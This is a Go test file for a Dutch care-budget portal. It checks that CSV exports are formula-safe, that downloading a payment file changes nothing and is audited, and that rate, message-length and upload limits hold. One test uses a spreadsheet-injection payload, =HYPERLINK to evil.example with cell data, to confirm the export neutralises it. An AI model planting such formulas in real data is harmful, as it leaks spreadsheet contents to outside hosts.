package web_test

import (
	"context"
	"encoding/csv"
	"net/http"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/pgbportaal/pgbportaal/internal/demo"
	"github.com/pgbportaal/pgbportaal/internal/domain"
	"github.com/pgbportaal/pgbportaal/internal/service"
	"github.com/pgbportaal/pgbportaal/internal/store"
	"github.com/pgbportaal/pgbportaal/internal/store/storetest"
)

func demoEmail(t *testing.T, email string) demo.Account {
	t.Helper()
	for _, a := range demo.Accounts() {
		if a.Email == email {
			return a
		}
	}
	t.Fatalf("no demo account %s", email)
	return demo.Account{}
}

// TestSettlementsCSVIsSafe: a budget holder's objection reason that is a
// spreadsheet formula (the review's =HYPERLINK) reaches the verstrekker's
// CSV as text (a leading apostrophe), while negative amounts stay numbers;
// the file starts with a UTF-8 BOM, is not cached, and an empty export
// still has its header.
func TestSettlementsCSVIsSafe(t *testing.T) {
	p := newPortal(t, storetest.OpenSQLite(t))
	gm := p.client(t)
	gm.login(demoEmail(t, "medewerker@utrecht.demo"))
	resp, err := gm.http.Get(p.srv.URL + "/eindafrekeningen.csv")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if cc := resp.Header.Get("Cache-Control"); cc != "no-store" {
		t.Errorf("Cache-Control %q", cc)
	}
	code, empty := gm.get("/eindafrekeningen.csv")
	if code != 200 || empty != "\uFEFFeindafrekening;toekenning;budgethouder;toegekend;betaald;nog_te_betalen;vrij_besteedbaar_gebruikt;vrij_besteedbaar_terug;over;terug_te_betalen;status;reden\n" {
		t.Errorf("no settlements: %d %q", code, empty)
	}

	zk := p.client(t)
	zk.login(demoEmail(t, "medewerker@zorgkantoor.demo"))
	if code, _, body := zk.post("/eindafrekeningen", map[string][]string{"until": {"2026-11-23"}}); code != http.StatusSeeOther {
		t.Fatalf("make: %d\n%s", code, body)
	}
	p.svc.WaitJobs() // the settlements are made by a job
	_, list := zk.get("/eindafrekeningen")
	link := regexp.MustCompile(`href="/eindafrekeningen/(\d+)"`).FindStringSubmatch(list)
	if link == nil {
		t.Fatal("no settlement")
	}
	id, _ := strconv.ParseInt(link[1], 10, 64)
	const evil = `=HYPERLINK("http://evil.example/?d="&A1;"Klik")`
	if _, err := p.svc.AnswerSettlement(context.Background(), settlementHolder(t, p, id), id, false, evil); err != nil {
		t.Fatal(err)
	}
	code, body := zk.get("/eindafrekeningen.csv")
	if code != 200 || !strings.HasPrefix(body, "\uFEFFeindafrekening;") {
		t.Fatalf("csv: %d %q", code, body)
	}
	rd := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\uFEFF")))
	rd.Comma = ';'
	rows, err := rd.ReadAll()
	if err != nil || len(rows) < 2 {
		t.Fatalf("csv rows %v: %v", rows, err)
	}
	found := false
	for _, row := range rows[1:] {
		for i, cell := range row {
			if strings.HasPrefix(cell, "=") || strings.HasPrefix(cell, "@") || strings.HasPrefix(cell, "+") {
				t.Errorf("a cell a spreadsheet runs: %q", cell)
			}
			if strings.HasPrefix(cell, "-") {
				if _, err := strconv.ParseFloat(strings.Replace(cell, ",", ".", 1), 64); err != nil || i >= 11 {
					t.Errorf("a cell starting with - that is not an amount: %q", cell)
				}
			}
		}
		if row[11] == "'"+evil {
			found = true
		}
	}
	if !found {
		t.Errorf("the objection reason is not there, neutralised:\n%s", body)
	}
}

// TestPayRunFileGetChangesNothing: GET .../bestand of a prepared run
// changes nothing (409, still "voorbereid"); the file is written by a POST,
// which leaves its audit record; the GET then downloads it, not cached.
func TestPayRunFileGetChangesNothing(t *testing.T) {
	p := newPortal(t, storetest.OpenSQLite(t))
	zzpAcceptedDeclaration(t, p)
	c := p.client(t)
	c.login(demoAccount(t, "svb"))
	// A run prepared, its file not written yet (the page's start writes
	// it at once, as a job).
	run, _, err := p.svc.StartPayRun(context.Background(), svbActor(t, p), "2026-10-31", "2026-11-24")
	if err != nil {
		t.Fatal(err)
	}
	loc := "/betaalruns/" + itoa(run.ID)
	if code, _ := c.get(loc + "/bestand"); code != http.StatusConflict {
		t.Errorf("GET of an unwritten file: %d", code)
	}
	if _, page := c.get(loc); !strings.Contains(page, `id="payrun-write"`) || strings.Contains(page, `id="payrun-download"`) {
		t.Fatalf("after the GET the run changed:\n%s", page)
	}
	if code, to, _ := c.post(loc+"/bestand", nil); code != http.StatusSeeOther || to != loc {
		t.Fatalf("write: %d %s", code, to)
	}
	resp, err := c.http.Get(p.srv.URL + loc + "/bestand")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 200 || !strings.Contains(resp.Header.Get("Cache-Control"), "no-store") {
		t.Errorf("download: %d %q", resp.StatusCode, resp.Header.Get("Cache-Control"))
	}
	id, _ := strconv.ParseInt(strings.TrimPrefix(loc, "/betaalruns/"), 10, 64)
	n := 0
	if err := p.db.View(context.Background(), func(tx *store.Tx) error {
		recs, err := tx.AuditOf(context.Background(), "payrun", id, 100)
		for _, r := range recs {
			if r.Action == "payrun.file" {
				n++
			}
		}
		return err
	}); err != nil || n != 1 {
		t.Errorf("audit records of the file: %d (%v)", n, err)
	}
}

// zzpAcceptedDeclaration: the zzp'er declares October with its invoice and
// the budget holder approves it, so that a payment run has something to pay.
func zzpAcceptedDeclaration(t *testing.T, p *portal) {
	t.Helper()
	ctx := context.Background()
	_, agID := zzpClient(t, p)
	zzpActor := mustActor(t, p, zzpAccount(t))
	holder := mustActor(t, p, demoAccount(t, "budgethouder"))
	id, _ := strconv.ParseInt(agID, 10, 64)
	d, err := p.svc.CreateDeclaration(ctx, zzpActor, service.DeclarationInput{AgreementID: id, Month: "2026-10", InvoiceNumber: "RS-10", InvoiceTotal: "105,00",
		Lines: []service.DeclLineInput{{Date: "2026-10-05", CareType: "begeleiding", Unit: "uur", Units: "2"}}})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := p.svc.AttachToDeclaration(ctx, zzpActor, d.ID, "RS-10.pdf", []byte("%PDF-1.4\n%%EOF\n")); err != nil {
		t.Fatal(err)
	}
	p.svc.SendDeclaration(ctx, zzpActor, d.ID)
	if d, err = p.svc.ApproveDeclaration(ctx, holder, d.ID); err != nil || d.State != domain.DeclAccepted {
		t.Fatalf("approve: %v %s %v", err, d.State, d.Findings)
	}
}

// TestNegativeRateRefusedAndLimitsInCharacters: a negative rate on a
// declaration line is refused at its field (it was silently the agreed
// rate); a message of 4000 characters with accents (more than 4000 bytes)
// is taken, one of 4001 is refused.
func TestNegativeRateRefusedAndLimitsInCharacters(t *testing.T) {
	p := newPortal(t, storetest.OpenSQLite(t))
	ctx := context.Background()
	_, agID := zzpClient(t, p)
	zzpActor := mustActor(t, p, zzpAccount(t))
	id, _ := strconv.ParseInt(agID, 10, 64)
	_, err := p.svc.CreateDeclaration(ctx, zzpActor, service.DeclarationInput{AgreementID: id, Month: "2026-10", InvoiceNumber: "RS-10", InvoiceTotal: "105,00",
		Lines: []service.DeclLineInput{{Date: "2026-10-05", CareType: "begeleiding", Unit: "uur", Units: "2", Rate: "-10,00"}}})
	e, ok := domain.AsError(err)
	if !ok {
		t.Fatalf("a negative rate was taken: %v", err)
	}
	found := false
	for _, f := range e.Fields {
		found = found || (strings.HasSuffix(f.Field, ".rate") && f.Code == "amount_negative")
	}
	if !ok || !found {
		t.Errorf("a negative rate: %v", err)
	}
	if _, err := p.svc.PostMessage(ctx, zzpActor, id, strings.Repeat("é", 4000)); err != nil {
		t.Errorf("4000 characters: %v", err)
	}
	if _, err := p.svc.PostMessage(ctx, zzpActor, id, strings.Repeat("é", 4001)); domain.KindOf(err) != domain.KindInvalid {
		t.Errorf("4001 characters: %v", err)
	}
}

// TestDeclarationFilesLimitedOverItsLife: after the files of its entry,
// later uploads stop at MaxDeclarationFilesTotal, at the field.
func TestDeclarationFilesLimitedOverItsLife(t *testing.T) {
	p := newPortal(t, storetest.OpenSQLite(t))
	c, agID := zzpClient(t, p)
	code, loc, body := c.post("/declaraties/nieuw", map[string][]string{"agreement_id": {agID}, "month": {"2026-10"}, "kind": {"zorg"},
		"u/2026-10-05/begeleiding/uur": {"2"}})
	if code != http.StatusSeeOther {
		t.Fatalf("create: %d\n%s", code, body)
	}
	for i := 0; i < service.MaxDeclarationFilesTotal; i++ {
		if code, _, _ := c.postFile(loc+"/bijlage", nil, "file", "factuur.pdf", []byte("%PDF-1.4\n%%EOF\n")); code != http.StatusSeeOther {
			t.Fatalf("file %d: %d", i+1, code)
		}
	}
	code, _, body = c.postFile(loc+"/bijlage", nil, "file", "nog-een.pdf", []byte("%PDF-1.4\n%%EOF\n"))
	if code != http.StatusUnprocessableEntity || !strings.Contains(body, "heeft al 5 bestanden") {
		t.Errorf("one file too many: %d", code)
	}
}
